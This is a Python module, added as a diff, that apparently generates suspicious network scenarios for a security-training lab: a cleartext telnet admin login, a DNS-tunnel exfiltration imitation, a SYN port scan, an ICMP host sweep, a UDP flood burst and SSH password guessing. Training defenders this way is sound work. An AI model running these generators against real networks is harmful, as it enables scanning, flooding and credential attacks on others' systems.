@@ -1,0 +1,124 @@
+"""Suspicious scenarios a trainer (or a test) switches on; each runs once from one host."""
+
+import base64
+import os
+import socket
+import subprocess
+
+from scapy.layers.inet import ICMP, IP, TCP
+from scapy.layers.l2 import Ether
+from scapy.sendrecv import sendp
+
+from . import dns
+from .ssh import CLIENT_OPTS
+
+# name -> (host that misbehaves, agent kind, what the trainee should notice)
+SCENARIOS = {
+    "telnet": ("ws2", "telnet-login", "a cleartext admin login (tcp/23) to the server"),
+    "dns-tunnel": ("iot", "dns-tunnel", "many DNS queries with large TXT answers from one host"),
+    "port-scan": ("ws2", "port-scan", "one host touching hundreds of ports of the server"),
+    "host-sweep": ("iot", "host-sweep", "ICMP echo to every address of the subnet"),
+    "volume-spike": ("ws1", "volume-spike", "a sudden burst of UDP toward one port of the server"),
+    "ssh-guessing": ("prn", "ssh-guessing", "many short SSH connections failing to log in"),
+}
+SCAN_PORTS = range(1, 301)
+SPIKE_PORT, SPIKE_PACKETS, SPIKE_PAYLOAD = 5001, 3000, 1200
+GUESSES = 12
+
+
+def telnet_login(ctx):
+    """Log in to the server with the real telnet client, typing like a person."""
+    ctx.ready.set()
+    proc = subprocess.Popen(["telnet", ctx.peers["srv"][0], "23"], stdin=subprocess.PIPE,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        for line in ("admin", "Sw1tch!2024", "show running-config", "exit"):
+            if not ctx.pause(ctx.rng.uniform(0.4, 1.0)):
+                break
+            proc.stdin.write(line.encode() + b"\r\n")
+            proc.stdin.flush()
+        proc.stdin.close()
+        ok = proc.wait(timeout=15) == 0
+    except (BrokenPipeError, subprocess.TimeoutExpired):
+        proc.kill()
+        proc.wait()
+        ok = False
+    ctx.ledger.session("telnet", ctx.ip, ctx.peers["srv"][0], 23, ok=ok)
+
+
+def dns_tunnel(ctx):
+    """Exfiltrate a seeded blob as base32 labels, asking for TXT records (the downstream)."""
+    ctx.ready.set()
+    blob = base64.b32encode(ctx.rng.randbytes(1500)).decode().rstrip("=").lower()
+    for i in range(0, len(blob), 50):
+        if not ctx.pause(ctx.rng.uniform(0.02, 0.08)):
+            return
+        dns.ask(ctx, "dns-tunnel", f"{blob[i:i + 50]}.{i // 50}.{dns.TUNNEL_ZONE}", "TXT")
+
+
+def port_scan(ctx):
+    """SYN-scan the server's low ports from one source port, as nmap does."""
+    ctx.ready.set()
+    srv_ip, srv_mac = ctx.peers["srv"]
+    sport = 40000 + ctx.rng.randrange(20000)
+    for port in SCAN_PORTS:
+        if not ctx.running():
+            return
+        pkt = (Ether(src=ctx.mac, dst=srv_mac) / IP(src=ctx.ip, dst=srv_ip)
+               / TCP(sport=sport, dport=port, flags="S", seq=ctx.rng.randrange(1 << 32)))
+        sendp(pkt, iface=ctx.iface, verbose=False)
+        ctx.ledger.packet("port-scan", pkt)
+
+
+def host_sweep(ctx):
+    """Ping every address of the /24 once (broadcast frames: live hosts answer, none are missed)."""
+    ctx.ready.set()
+    ident = ctx.rng.randrange(65536)
+    for last in range(1, 255):
+        target = f"10.0.0.{last}"
+        if target == ctx.ip or not ctx.running():
+            continue
+        pkt = (Ether(src=ctx.mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=ctx.ip, dst=target)
+               / ICMP(type=8, id=ident, seq=last) / (b"\x00" * 32))
+        sendp(pkt, iface=ctx.iface, verbose=False)
+        ctx.ledger.packet("host-sweep", pkt)
+
+
+def volume_spike(ctx):
+    """Blast the server's port SPIKE_PORT with full-size UDP datagrams for a few seconds."""
+    ctx.ready.set()
+    server = (ctx.peers["srv"][0], SPIKE_PORT)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((ctx.ip, 0))
+    payload = ctx.rng.randbytes(SPIKE_PAYLOAD)
+    try:
+        for n in range(SPIKE_PACKETS):
+            if not ctx.running():
+                break
+            sock.sendto(payload, server)
+            if n % 100 == 99:
+                ctx.ledger.flow("volume-spike", 17, ctx.ip, sock.getsockname()[1], *server,
+                                100 * (28 + SPIKE_PAYLOAD), packets=100)
+                ctx.pause(0.05)  # paced so the switch and sensor see a burst, not a drop-fest
+    finally:
+        sock.close()
+
+
+def ssh_guessing(ctx):
+    """Try passwords for 'admin' over and over, each guess its own connection."""
+    ctx.ready.set()
+    askpass = os.path.join(ctx.run_dir, "ssh", "askpass")
+    with open(askpass, "w") as f:
+        f.write("#!/bin/sh\necho 'guess-$$'\n")
+    os.chmod(askpass, 0o755)
+    env = dict(os.environ, SSH_ASKPASS=askpass, SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
+    opts = [o for o in CLIENT_OPTS if o != "BatchMode=yes"] + ["BatchMode=no"]
+    for _ in range(GUESSES):
+        if not ctx.pause(ctx.rng.uniform(0.1, 0.4)):
+            return
+        done = subprocess.run(["ssh", *opts, "-o", "PreferredAuthentications=password",
+                               "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
+                               f"admin@{ctx.peers['srv'][0]}", "true"],
+                              env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
+        ctx.ledger.session("ssh-guessing", ctx.ip, ctx.peers["srv"][0], 22,
+                           ok=done.returncode != 0)
